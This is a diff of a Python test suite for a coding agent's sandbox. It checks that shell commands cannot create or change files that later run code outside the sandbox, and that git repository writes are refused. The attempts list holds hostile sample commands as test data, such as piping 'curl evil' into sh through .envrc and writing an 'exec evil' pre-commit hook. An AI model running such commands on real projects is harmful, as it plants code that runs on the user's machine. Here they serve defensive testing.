@@ -8,6 +8,7 @@ whole namespace and all, before the restarted worker reports.
 
 from __future__ import annotations
 
+import contextlib
 import http.server
 import os
 import shutil
@@ -35,6 +36,7 @@ from coding_agent.tui.commands.core import sandbox_text
 from coding_agent.worker.tools import ToolContext, ToolError
 from coding_agent.worker.tools.bash import BASH_TOOL
 from pico3 import DomainProxy, Sandbox, SandboxStatus, sandbox_available
+from pico3.sandbox_placeholders import lock_file
 
 _STATUS = sandbox_available()
 if not _STATUS.available and os.environ.get("CODING_AGENT_REQUIRE_SANDBOX"):  # CI: .ci/run
@@ -135,8 +137,9 @@ async def test_the_files_that_run_code_outside_stay_read_only_even_where_missing
     tmp_path: Path, env: dict[str, str]
 ) -> None:
     """What makes code run outside later (the list a write or edit asks for): kept read-only
-    where it exists; and this agent's own two folders, which it loads code from at its next
-    start in a trusted project, are made (empty) where missing so they are read-only too."""
+    where it exists; and the folders of it that are missing (this agent's own, which it loads
+    code from at its next start in a trusted project, an editor's) cannot be created: an empty
+    read-only placeholder lies there while a command runs, and nothing is left after."""
     project = tmp_path / "repo"
     (project / ".vscode").mkdir(parents=True)
     (project / ".claude").mkdir()
@@ -148,6 +151,7 @@ async def test_the_files_that_run_code_outside_stay_read_only_even_where_missing
     attempts = [
         "echo '{\"hooks\": {}}' > .claude/settings.json",
         "mkdir -p .coding-agent/facets/evil",
+        "mkdir -p .idea && echo '<component/>' > .idea/workspace.xml",
         "echo 'curl evil | sh' >> .envrc",
         "echo '{}' > .vscode/tasks.json",
         "echo 'exec evil' > .git/hooks/pre-commit",
@@ -156,7 +160,8 @@ async def test_the_files_that_run_code_outside_stay_read_only_even_where_missing
         text = await bash(command, project, found)
         assert "Read-only file system" in text, (command, text)
     assert sorted(p.name for p in (project / ".claude").iterdir()) == []
-    assert list((project / ".coding-agent").iterdir()) == []  # made, empty
+    await placeholders_removed(project)
+    assert not (project / ".coding-agent").exists() and not (project / ".idea").exists()
     assert (project / ".envrc").read_text() == "use flake\n"
     # the rest of the project is the command's files and folders; git reads it, and what
     # would write the repository (a commit) is refused, with the way to ask to run it outside
@@ -164,13 +169,32 @@ async def test_the_files_that_run_code_outside_stay_read_only_even_where_missing
         "echo work > notes.txt && mkdir -p src && git status --short && echo ok", project, found
     )
     assert text.split() == ["??", ".envrc", "??", "notes.txt", "ok"], text
-    assert (project / "notes.txt").read_text() == "work\n"  # the empty folders: nothing to git
+    assert (project / "notes.txt").read_text() == "work\n"  # placeholders: nothing to git
     text = await bash(
         "git add -A && git -c user.name=a -c user.email=a@b commit -qm w", project, found
     )
     assert "index.lock': Read-only file system" in text, text
     assert "not its git repository (a commit, checkout or stash runs outside)" in text
     assert "outside_sandbox: true" in text
+
+
+def _watchers(project: Path) -> list[int]:
+    """The processes holding the lock file of ``project``'s placeholders (their watchers)."""
+    lock = lock_file(os.path.realpath(project))
+    holders: list[int] = []
+    for name in os.listdir("/proc"):
+        if name.isdigit():
+            with contextlib.suppress(OSError):
+                fds = os.listdir(f"/proc/{name}/fd")
+                if any(os.readlink(f"/proc/{name}/fd/{fd}") == lock for fd in fds):
+                    holders.append(int(name))
+    return holders
+
+
+async def placeholders_removed(project: Path) -> None:
+    """Wait until the watchers of ``project``'s placeholders have ended (they remove the
+    placeholders once their command's sandbox is gone: pico3.sandbox_placeholders)."""
+    await wait_gone(_watchers(project))
 
 
 def _git(repo: Path, *args: str) -> None:
@@ -395,9 +419,19 @@ async def test_nothing_a_command_starts_outlives_its_call(
 
 
 async def test_allowed_work_succeeds(project: Path, env: dict[str, str], sandbox: Sandbox) -> None:
+    # a project with no git repository (none above it): one cannot be made inside (git would
+    # run its configuration at the user's next ``git status``); made outside, git reads it
+    if not any((d / ".git").exists() for d in project.parents):
+        text = await bash("git init -q . && echo made", project, sandbox)
+        assert "Read-only file system" in text and "made" not in text, text
+        assert "outside_sandbox: true" in text
+        await placeholders_removed(project)
+        assert not (project / ".git").exists()
+    _git(project, "init", "-q", ".")
+    _git(project, "add", "-A")
+    _git(project, "commit", "-qm", "first")
     command = (
-        "git init -q . && git -c user.email=a@b -c user.name=a add -A && "
-        "git -c user.email=a@b -c user.name=a commit -qm first && git log --oneline | wc -l && "
+        "git status --short && git log --oneline | wc -l && "
         "printf 'int main(){return 0;}' > t.c && python3 -c 'print(2+2)' && "
         "echo scratch > $TMPDIR/scratch && cat $TMPDIR/scratch && echo $TMPDIR"
     )
